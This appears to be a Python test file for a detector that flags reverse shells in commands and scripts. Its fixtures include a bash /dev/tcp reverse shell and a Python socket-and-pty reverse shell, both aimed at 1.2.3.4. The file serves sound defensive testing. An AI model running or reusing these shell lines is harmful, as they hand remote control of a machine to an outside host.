"""Shells that are opened to elsewhere: a shell whose input and output are a connection, in a command or in code."""

from hypothesis import given
from hypothesis import strategies as st

from tallystick.policy.risks.reverse_shells import RISKS, descriptor_risks, joins_a_shell, risks, runs_named
from tests.policy.risks.readings import FOLDER, found
from tests.support.cases import cases, each, each_case


@each_case("language, text")
def test_a_shell_for_a_connection_is_found(language: str, text: str) -> None:
    assert joins_a_shell(language, text)


@each_case("language, text")
def test_sockets_and_programs_that_are_not_joined_are_work(language: str, text: str) -> None:
    assert not joins_a_shell(language, text)


def test_what_is_merely_given_to_a_told_program_is_not_run() -> None:
    import re

    source = re.compile("fetch")
    assert runs_named("x = fetch(u)\nsubprocess.run(x, shell=True)", source)
    assert runs_named("x = fetch(u)\nsubprocess.run(['sh', '-c', x])", source)
    assert not runs_named("x = fetch(u)\nsubprocess.run(['git', 'checkout', x])", source)
    assert not runs_named("x = fetch(u)\nsubprocess.run(['ls'])", source)


@given(st.text(max_size=2000), st.sampled_from(["python", "awk", "powershell"]))
def test_any_text_is_judged_without_an_error(text: str, language: str) -> None:
    assert joins_a_shell(language, f"socket( {text} .recv( system( {text}") in (True, False)


FOUND = cases(__file__, "found", dict[str, tuple[str, ...]])


@each("name, command", [(name, each) for name, commands in FOUND.items() for each in commands])
def test_a_shell_that_is_joined_with_a_connection_is_found(name: str, command: str) -> None:
    assert name in found(risks, command)


@each_case("command")
def test_a_connection_or_a_shell_alone_is_work(command: str) -> None:
    assert found(risks, command) == set()


def test_each_risk_has_an_example() -> None:
    assert FOUND.keys() == RISKS.keys()


def test_a_script_that_is_run_is_looked_into() -> None:
    files = {
        f"{FOLDER}/a.sh": "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1\n",
        f"{FOLDER}/a.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('sh')\n",
    }
    assert found(risks, "./a.sh", files) == {"reverse-shell"}
    assert found(risks, "python3 a.py", files) == {"reverse-shell"}
    assert found(risks, "cat a.sh a.py", files) == set()


@each_case("command")
def test_a_shell_that_is_joined_by_descriptors_is_found(command: str) -> None:
    assert found(descriptor_risks, command) == {"reverse-shell"}


@each_case("command")
def test_descriptors_of_files_and_of_other_programs_are_work(command: str) -> None:
    assert found(descriptor_risks, command) == set()
